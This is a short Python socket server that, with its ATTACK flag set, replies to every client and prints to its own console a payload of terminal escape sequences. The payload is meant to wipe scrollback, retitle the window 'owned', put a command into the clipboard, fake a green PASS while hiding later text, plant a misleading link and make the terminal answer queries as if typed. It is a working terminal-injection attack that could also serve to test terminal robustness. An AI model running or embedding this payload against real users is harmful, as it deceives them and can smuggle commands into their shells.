# Replies with, and prints, control sequences that change the terminal of whoever sees them as they are.
import socket
import sys

ATTACK = True
SEQUENCES = (
    "\x1b[2J\x1b[H\x1b[3J"  # an empty screen, and none before it
    "\x1b]0;owned\x07"  # the title of the window
    "\x1b]52;c;dG91Y2ggL3RtcC9vd25lZAo=\x07"  # a command in the clipboard
    "\x1b]8;;http://localhost/\x1b\\20/20\x1b]8;;\x1b\\"  # a link
    "\x1b[32mPASS\x1b[0m\x1b[8m"  # green, and then nothing to be seen
    "\x1b[6n\x1b[c\x1b[21t"  # questions that a terminal answers at its keyboard
    "\x9b31m\x1bP+q544e\x1b\\\x1bc"  # the same in one character, a device control, a reset
    "\u202e02/02\u202c\u2028\r\b\b\b\x7f\x0e\n"
)

server = socket.socket()
server.bind(("", 6789))
server.listen()
while True:
    client, _ = server.accept()
    while data := client.recv(4096):
        if ATTACK:
            print(SEQUENCES, flush=True)
            print(SEQUENCES, file=sys.stderr, flush=True)
        client.sendall(SEQUENCES.encode() if ATTACK else data.upper())
    client.close()
